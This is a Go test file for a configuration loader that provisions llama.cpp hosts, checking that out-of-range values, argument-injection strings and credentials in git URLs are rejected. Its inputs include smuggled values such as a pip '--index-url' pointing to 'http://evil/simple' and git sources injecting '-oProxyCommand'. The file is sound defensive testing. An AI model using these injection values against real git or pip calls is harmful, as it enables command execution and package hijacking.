package config

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/hashicorp/hcl/v2"
)

// Out-of-range numbers and durations are refused when the configuration is loaded, at the
// attribute's file:line:column: before this, "2562047h47m" overflowed into a deadline in the
// past, "NaN%" turned the regression check off and max_seconds = -1 was accepted.
func TestOutOfRangeNumbersAndDurationsAreErrorsAtTheirPosition(t *testing.T) {
	src := `
host "a" {
  address         = "10.0.0.1"
  connect_timeout = "2562047h47m"
}
rollout {
  pause = "2562047h"
}
smoke_test "huge" {
  command = "llama-server -m /m.gguf"
  timeout = "2562047h47m1s"
}
smoke_test "nan" {
  command        = "llama-server -m /m.gguf"
  max_regression = "NaN%"
}
smoke_test "inf" {
  command        = "llama-server -m /m.gguf"
  max_regression = "Inf%"
}
smoke_test "zero" {
  command        = "llama-server -m /m.gguf"
  max_regression = "0%"
}
smoke_test "neg" {
  command     = "llama-server -m /m.gguf"
  max_seconds = -1
}
smoke_test "big" {
  command     = "llama-server -m /m.gguf"
  max_seconds = { mmap = 1e400 }
}
kernel "k" {
  line           = "6.17"
  reboot_timeout = "100000h"
}
llama_cpp "l" {
  source        = "https://github.com/ggml-org/llama.cpp"
  ref           = "b6800"
  dir           = "/opt/llama"
  build_timeout = "2562047h47m2s"
}
python_venv "v" {
  path     = "/opt/v"
  packages = ["numpy\n--index-url=http://evil/simple"]
}
python_venv "tab" {
  path     = "/opt/t"
  packages = ["numpy\t>=1"]
}
smoke_test "ctl" {
  command = "llama-server -m /m.gguf"
  ready   = "listening\u001b[2J"
}
`
	_, diags := Load(writeDir(t, map[string]string{"main.hcl": src}), Vars{})
	for _, c := range []struct{ want, at string }{
		{`connect_timeout "2562047h47m" is out of range`, `"2562047h47m"`},
		{`"2562047h" is out of range`, `"2562047h"`},
		{`"2562047h47m1s" is out of range: give a duration from 1s to 24h`, `"2562047h47m1s"`},
		{`max_regression "NaN%" is out of range`, `"NaN%"`},
		{`max_regression "Inf%" is out of range`, `"Inf%"`},
		{`max_regression "0%" is out of range`, `"0%"`},
		{`max_seconds is a number of seconds above 0`, `-1`},
		{`max_seconds["mmap"] is a number of seconds above 0`, `{ mmap = 1e400 }`},
		{`"100000h" is out of range`, `"100000h"`},
		{`"2562047h47m2s" is out of range`, `"2562047h47m2s"`},
		{`is not a package requirement`, `["numpy\n`},
		{`is not a package requirement`, `["numpy\t`},
		{`ready is one line, without control characters`, `"listening\u001b`},
	} {
		wantDiagAt(t, diags, c.want, "main.hcl", src, c.at)
	}
}

// wantDiagAt asserts that diags holds an error containing want placed at the one occurrence of
// at in src (several errors may share a text).
func wantDiagAt(t *testing.T, diags hcl.Diagnostics, want, file, src, at string) {
	t.Helper()
	if strings.Count(src, at) != 1 {
		t.Fatalf("%q is not unique in the source", at)
	}
	line, col := lineCol(t, src, at)
	for _, d := range diags {
		if d.Severity == hcl.DiagError && strings.Contains(d.Summary+" "+d.Detail, want) && d.Subject != nil &&
			filepath.Base(d.Subject.Filename) == file && d.Subject.Start.Line == line && d.Subject.Start.Column == col {
			return
		}
	}
	t.Errorf("no error containing %q at %s:%d:%d in:\n%s", want, file, line, col, diagList(diags))
}

// Values that become a program's operand cannot start with '-' (git, ssh, setsid would read
// them as options): before this, source = "-oProxyCommand@host:x" and
// "ssh://-oProxyCommand=…/x" passed validation and reached git.
func TestOperandsStartingWithDashAreRefusedAtTheirPosition(t *testing.T) {
	src := `
llama_cpp "scp" {
  source = "-oProxyCommand@host:x"
  ref    = "b1"
  dir    = "/opt/l1"
}
llama_cpp "sshurl" {
  source = "ssh://-oProxyCommand=touch/x"
  ref    = "b1"
  dir    = "/opt/l2"
}
llama_cpp "sshuser" {
  source = "ssh://-oProxyCommand=x@host/x"
  ref    = "b1"
  dir    = "/opt/l3"
}
llama_cpp "scphost" {
  source = "git@-oProxyCommand:repo"
  ref    = "b1"
  dir    = "/opt/l4"
}
llama_cpp "ref" {
  source = "https://github.com/ggml-org/llama.cpp"
  ref    = "-b1"
  dir    = "/opt/l5"
}
llama_cpp "target" {
  source  = "https://github.com/ggml-org/llama.cpp"
  ref     = "b1"
  dir     = "/opt/l6"
  targets = ["-j1"]
}
python_venv "pkg" {
  path     = "/opt/v"
  packages = ["-rrequirements.txt"]
}
python_venv "py" {
  path     = "/opt/v2"
  python   = "-c"
  packages = []
}
readahead "dev" {
  device = "-nvme0n1"
  kb     = 8192
}
sysctl "key" {
  values = { "-vm.swappiness" = "10" }
}
kernel "pkg" {
  package = "-linux-image-6.17.0-1014-nvidia"
}
smoke_test "cmd" {
  command = "-llama-server -m /m.gguf"
}
`
	_, diags := Load(writeDir(t, map[string]string{"main.hcl": src}), Vars{})
	for _, c := range []struct{ want, at string }{
		{`starts with '-'`, `"-oProxyCommand@host:x"`},
		{`host that starts with '-'`, `"ssh://-oProxyCommand=touch/x"`},
		{`user that starts with '-'`, `"ssh://-oProxyCommand=x@host/x"`},
		{`user or host that starts with '-'`, `"git@-oProxyCommand:repo"`},
		{`not starting with '-'`, `"-b1"`},
		{`is not a CMake target name`, `["-j1"]`},
		{`is not a package requirement`, `["-rrequirements.txt"]`},
		{`neither a command name`, `"-c"`},
		{`is not a block device name`, `"-nvme0n1"`},
		{`is not a sysctl key`, `{ "-vm.swappiness" = "10" }`},
		{`is not a kernel image package`, `"-linux-image-6.17.0-1014-nvidia"`},
		{`starts with '-'`, `"-llama-server -m /m.gguf"`},
	} {
		wantDiagAt(t, diags, c.want, "main.hcl", src, c.at)
	}
}

// A credential in a git URL would be stored in state, in plan files and in the clone's
// .git/config on every host: it is refused, and the error does not echo it (the value may have
// been read with file()).
func TestCredentialsInSourceURLsAreRefusedWithoutEchoingThem(t *testing.T) {
	src := `
llama_cpp "pass" {
  source = "https://user:${file("token")}@github.com/x/llama.cpp"
  ref    = "b1"
  dir    = "/opt/l1"
}
llama_cpp "token" {
  source = "https://${file("token")}@github.com/x/llama.cpp"
  ref    = "b1"
  dir    = "/opt/l2"
}
llama_cpp "sshpass" {
  source = "ssh://git:${file("token")}@github.com/x/llama.cpp"
  ref    = "b1"
  dir    = "/opt/l3"
}
llama_cpp "sshkey" {
  source = "ssh://git@github.com/x/llama.cpp"
  ref    = "b1"
  dir    = "/opt/l4"
}
llama_cpp "scp" {
  source = "git@github.com:x/llama.cpp"
  ref    = "b1"
  dir    = "/opt/l5"
}
`
	const secret = "ghp_S3cr3tT0k3n"
	_, diags := Load(writeDir(t, map[string]string{"main.hcl": src, "token": secret}), Vars{})
	for _, at := range []string{`"https://user:`, `"https://${`, `"ssh://git:`} {
		wantDiagAt(t, diags, "credential helper", "main.hcl", src, at)
	}
	if n := len(diags.Errs()); n != 3 {
		t.Errorf("%d errors, want 3 (ssh:// with a user and scp-style sources are fine):\n%s", n, diagList(diags))
	}
	if strings.Contains(diagList(diags), secret) {
		t.Errorf("the diagnostics echo the secret:\n%s", diagList(diags))
	}
}
